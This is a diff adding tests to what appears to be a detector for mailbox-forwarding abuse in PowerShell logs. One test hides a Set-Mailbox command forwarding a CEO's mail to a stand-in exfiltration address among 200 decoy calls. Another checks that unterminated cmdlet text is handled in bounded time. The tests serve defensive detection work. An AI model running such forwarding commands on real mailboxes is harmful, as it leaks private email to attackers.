@@ -59,3 +59,26 @@ def test_cmdlet_names_must_be_whole_words():
     pattern = cmdlet_pattern(["Set-Mailbox"])
     assert find_invocations("Set-MailboxFolderPermission -Identity x", pattern) == []
     assert find_invocations("Get-Set-Mailbox", pattern) == []
+
+
+def test_decoy_calls_do_not_hide_a_later_one(engine):
+    decoys = "\n".join("Set-Mailbox -Identity user%d -ProhibitSendQuota 50GB" % i for i in range(200))
+    script = decoys + "\nSet-Mailbox -Identity ceo -ForwardingSmtpAddress smtp:drop@exfil.example\n"
+    record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": script, "user": "x"}
+    assert engine.annotate(record) is True
+    assert record["t1114_rule"] == "t1114_003_mailbox_forwarding"
+
+
+def test_hostile_cmdlet_text_is_bounded_and_reported():
+    import time
+
+    from app.problems import ProblemLog
+
+    pattern = cmdlet_pattern(["Set-Mailbox"])
+    problems = ProblemLog()
+    hostile = "Set-Mailbox -Identity 'x " * 20000   # calls that never end their statement
+    started = time.perf_counter()
+    found = find_invocations(hostile, pattern, problems)
+    assert time.perf_counter() - started < 5.0
+    assert 0 < len(found) < 20000
+    assert any("were not checked" in m for m in problems.messages())
